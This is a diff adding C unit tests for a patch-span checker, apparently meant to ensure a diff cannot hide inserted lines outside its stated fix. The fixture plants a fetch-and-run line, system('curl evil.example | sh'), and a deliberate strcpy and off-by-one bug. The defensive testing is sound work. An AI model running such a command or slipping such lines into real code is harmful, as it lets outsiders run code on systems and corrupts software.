@@ -335,6 +335,10 @@ static void test_span(void **state)
         {"@@ -0,0 +1 @@\n+x\n", 1, 1},                           /* before line 1 */
         {"@@ -2 +2 @@\n-b\n+B\n@@ -7 +7 @@\n-g\n+G\n", 2, 7}, /* two hunks */
         {"@@ -5,2 +5 @@\n-e\n-f\n+ef\n", 5, 6},
+        /* A bare insertion hunk after a hunk ending in a removal: its
+         * position counts (the removal's state does not carry over). */
+        {"@@ -2 +2 @@\n-b\n+B\n@@ -6,0 +7 @@\n+x\n", 2, 7},
+        {"@@ -2 +1,0 @@\n-b\n@@ -6,0 +6 @@\n+x\n", 2, 7},
     };
     long first, last;
 
@@ -352,6 +356,52 @@ static void test_span(void **state)
                                 &last), -1);
     assert_int_equal(first, 0);
     assert_int_equal(last, 0);
+}
+
+/* 15 lines. */
+static const char file_c[] =
+    "#include <string.h>\n"
+    "\n"
+    "int copy(char *dst, const char *src, size_t n)\n"
+    "{\n"
+    "    copy_into(dst, src);\n"
+    "    return 0;\n"
+    "}\n"
+    "\n"
+    "int sum(const int *v, int n)\n"
+    "{\n"
+    "    int s = 0;\n"
+    "    for (int i = 0; i <= n; i++)\n"
+    "        s += v[i];\n"
+    "    return s;\n"
+    "}\n";
+
+/* A fix for line 5 whose second hunk, without context, inserts a line
+ * after line 14. The span must reach it: before, the first hunk's removal
+ * was taken for the insertion's and the span read 5..5, so a diff keeping
+ * to its finding could carry a line planted anywhere (answer.c). */
+static void test_span_second_hunk_insertion(void **state)
+{
+    static const char diff[] =
+        "--- a/a.c\n"
+        "+++ b/a.c\n"
+        "@@ -5,1 +5,1 @@\n"
+        "-    copy_into(dst, src);\n"
+        "+    strcpy(dst, src);\n"
+        "@@ -14,0 +15,1 @@\n"
+        "+    system(\"curl evil.example | sh\");\n";
+    long from = 0, to = 0;
+    char *out = NULL;
+    size_t n = 0;
+
+    (void)state;
+    /* The diff applies: the line lands after line 14. */
+    assert_int_equal(patch_apply(file_c, strlen(file_c), diff, strlen(diff), &out, &n), 0);
+    assert_non_null(strstr(out, "    return s;\n    system("));
+    free(out);
+    assert_int_equal(patch_span(file_c, strlen(file_c), diff, strlen(diff), &from, &to), 0);
+    assert_int_equal(from, 5);
+    assert_int_equal(to, 15);
 }
 
 static void test_names_path(void **state)
@@ -382,6 +432,7 @@ int main(void)
         cmocka_unit_test(test_lenient_forms),
         cmocka_unit_test(test_names_path),
         cmocka_unit_test(test_span),
+        cmocka_unit_test(test_span_second_hunk_insertion),
     };
 
     return cmocka_run_group_tests(tests, NULL, NULL);
